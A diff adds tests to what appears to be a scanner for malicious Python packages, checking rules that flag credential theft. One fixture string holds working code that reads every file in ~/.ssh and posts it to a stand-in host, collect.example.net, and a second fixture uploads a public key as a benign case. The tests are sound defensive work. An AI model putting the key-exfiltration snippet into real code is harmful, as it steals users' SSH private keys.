@@ -257,3 +257,42 @@ def test_an_install_command_defined_in_a_module_setup_py_imports() -> None:
     rules, held = _rules(archive)
     assert "credential-exfil" in rules
     assert held
+
+
+SSH_DIRECTORY_SENT = """\
+import os, requests
+keys = os.path.expanduser("~/.ssh")
+for name in os.listdir(keys):
+    requests.post("https://collect.example.net/k", files={"f": open(os.path.join(keys, name), "rb")})
+"""
+PUBLIC_KEY_UPLOAD = """\
+import os, requests
+def upload_public_key(api, token):
+    with open(os.path.expanduser("~/.ssh/id_rsa.pub")) as f:
+        key = f.read()
+    return requests.post(api + "/keys", json={"key": key}, headers={"Authorization": token})
+"""
+
+
+def _package(**modules: str) -> bytes:
+    return wheel({"demo/__init__.py": "from . import core\n", **modules})
+
+
+def test_a_keys_directory_sent_out_by_a_module_the_package_imports() -> None:
+    """Triage passed such a module over: nothing in it is called at module level, and
+    ``~/.ssh`` without a key's file name was not among what it looks for."""
+    rules, flagged = _rules(
+        _package(**{"demo/core.py": SSH_DIRECTORY_SENT}), "demo-1.0-py3-none-any.whl"
+    )
+    assert {"credential-read", "credential-exfil"} <= rules
+    assert flagged
+
+
+@pytest.mark.parametrize("module", ["demo/__init__.py", "demo/core.py"])
+def test_uploading_a_public_key_is_not_stealing_one(module: str) -> None:
+    """``id_rsa.pub``, ``known_hosts`` and ``authorized_keys`` are no secrets: cloud tools
+    upload public keys every day."""
+    members = {"demo/__init__.py": "", "demo/core.py": "X = 1\n", module: PUBLIC_KEY_UPLOAD}
+    rules, flagged = _rules(wheel(members), "demo-1.0-py3-none-any.whl")
+    assert not rules & {"credential-read", "credential-exfil"}
+    assert not flagged
